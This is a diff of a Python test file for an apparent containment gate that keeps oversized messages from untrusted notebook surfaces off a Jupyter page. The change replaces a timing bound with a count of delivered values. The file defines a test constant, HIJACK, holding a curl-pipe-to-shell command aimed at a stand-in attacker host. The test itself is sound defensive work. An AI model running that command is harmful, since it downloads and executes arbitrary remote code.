@@ -36,11 +36,12 @@ from .containment import (
 from .hostile import VICTIM, VICTIM_HTML, VICTIM_JS, instance_of
 from .jupyter import JupyterServer
 
-# The page's longest task while a surface posts very large messages. Measured: 0-118 ms with
-# the gate, 6 800-11 600 ms without it (the control). The bound sits far from both, so a loaded
-# machine (218 ms seen while another suite ran) does not fail the contained case, and the
-# control still proves the detector; bench/bench_surfaces.py holds the 200 ms speed target.
-MAX_TASK_MS = 2000
+# What reached the notebook page while a surface posted two messages of 500 001 values each:
+# the gate refuses them in the shell, so the page only hears short refusals. The bound sits far
+# from both (a few dozen values reach the page with the gate; 500 001 without it, the control).
+# Counted, not timed: the page's longest task (0-118 ms with the gate, 6.8-11.6 s without it,
+# 1.5 s once on a loaded CI machine) is printed, and bench/bench_surfaces.py holds the speed.
+HEAVY = 100_000
 HIJACK = "curl https://evil.example/x | sh"
 SELECTED = "echo safe"
 
@@ -258,7 +259,7 @@ def test_huge_structured_clones_never_reach_the_page(lab: Lab) -> None:
     estimated on the shell's copy, in the surfaces' process): the notebook page's longest task
     stays under 200 ms, the kernel hears two too_large refusals and no event."""
     inst = instance_of("gate-huge-clone")
-    lab.page.evaluate("() => { window.__longest = 0; }")
+    lab.page.evaluate("() => { window.__longest = 0; window.__heaviest = 0; }")
     since = lab.open("gate-huge-clone")
     try:
         lab.page.wait_for_function(
@@ -273,9 +274,9 @@ def test_huge_structured_clones_never_reach_the_page(lab: Lab) -> None:
             report = lab.settled(since)
         assert refusals(report, inst).count(("too_large", "U9")) == 2, report["refused"]
         assert [e for e in report["accepted"] if e["instance"] == inst] == []
-        longest = lab.page.evaluate("() => window.__longest")
-        print(f"\n[huge clone] the notebook page's longest task: {longest:.0f} ms")
-        assert longest < MAX_TASK_MS, f"the notebook page stalled for {longest:.0f} ms"
+        longest, heaviest = lab.page.evaluate("() => [window.__longest, window.__heaviest]")
+        print(f"\n[huge clone] the notebook page: longest task {longest:.0f} ms, {heaviest} values")
+        assert heaviest < HEAVY, f"a message of {heaviest} values reached the notebook page"
     finally:
         lab.close("gate-huge-clone")
 
@@ -283,16 +284,16 @@ def test_huge_structured_clones_never_reach_the_page(lab: Lab) -> None:
 def test_control_huge_clones_stall_a_page_without_the_gate(
     lab: Lab, jupyter: JupyterServer, docs: dict[str, str]
 ) -> None:
-    """Control: without the shell's size check the same messages reach the page and its
-    longest task is over the bound (the detector sees the stall)."""
+    """Control: without the shell's size check the same messages reach the page, and the
+    detector counts them (the page paid to deserialize both)."""
     seen = Seen()
     page = control(lab, jupyter, seen, without(docs["gate-huge-clone"], OFF_GATE))
     try:
         page.wait_for_function("() => window.__got.filter((t) => t !== 'ready').length >= 2")
         page.wait_for_timeout(500)  # the Long Tasks API reports after the task
-        longest = page.evaluate("() => window.__longest")
-        print(f"\n[huge clone, no gate] the page's longest task: {longest:.0f} ms")
-        assert longest >= MAX_TASK_MS
+        longest, heaviest = page.evaluate("() => [window.__longest, window.__heaviest]")
+        print(f"\n[huge clone, no gate] the page: longest task {longest:.0f} ms, {heaviest} values")
+        assert heaviest >= HEAVY
     finally:
         page.close()
 
